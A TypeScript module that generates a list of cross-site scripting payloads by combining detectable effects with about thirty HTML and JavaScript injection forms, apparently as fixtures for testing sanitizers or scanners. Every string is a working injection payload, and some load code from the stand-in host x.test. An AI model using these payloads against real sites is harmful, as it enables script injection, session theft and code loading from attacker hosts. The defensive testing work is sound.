/** Each effect is detectable, and short enough for a name. */
const acts = [
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  'print()',
  'top.ran=1',
  'eval("ran=1")',
  'import("//x.test")',
  'fetch("//x.test")',
  'open("//x.test")',
  'ran=1//',
];

/** `$` stands for the effect. */
const forms = [
  '<script>$</script>',
  '<ScRiPt >$</sCrIpT>',
  '</script><script>$</script>',
  "<script src=//x.test></script><b title='$'>",
  "<img src=x onerror='$'>",
  '<img src=x:x onerror=$ //',
  "\"><img src=x onerror='$'>",
  "' onmouseover='$' x='",
  '" autofocus onfocus=\'$\' x="',
  "<svg onload='$'>",
  "<svg/onload='$'/>",
  '<svg><script>$</script></svg>',
  "<svg><animate onbegin='$' attributeName=x dur=1s>",
  "<body onload='$'>",
  "<iframe src='javascript:$'>",
  "<iframe srcdoc='<script>$</script>'>",
  "<a href='javascript:$'>kite</a>",
  'javascript:$',
  "<details open ontoggle='$'>",
  "<video><source onerror='$'>",
  "<input autofocus onfocus='$'>",
  "<style>@import'//x.test'</style>$",
  "<base href='//x.test'>$",
  "<meta http-equiv=refresh content='0;url=//x.test'>$",
  "<object data='//x.test'></object>$",
  "<noscript><p title='</noscript><svg onload=$>'>",
  '{{constructor.constructor("$")()}}',
  '&lt;script&gt;$&lt;/script&gt;',
  '<!--><script>$</script>',
  "<math><mi xlink:href='data:x,<script>$</script>'>",
];

export const payloads: readonly string[] = forms.flatMap((form) =>
  acts.map((act) => form.replaceAll('$', act)),
);
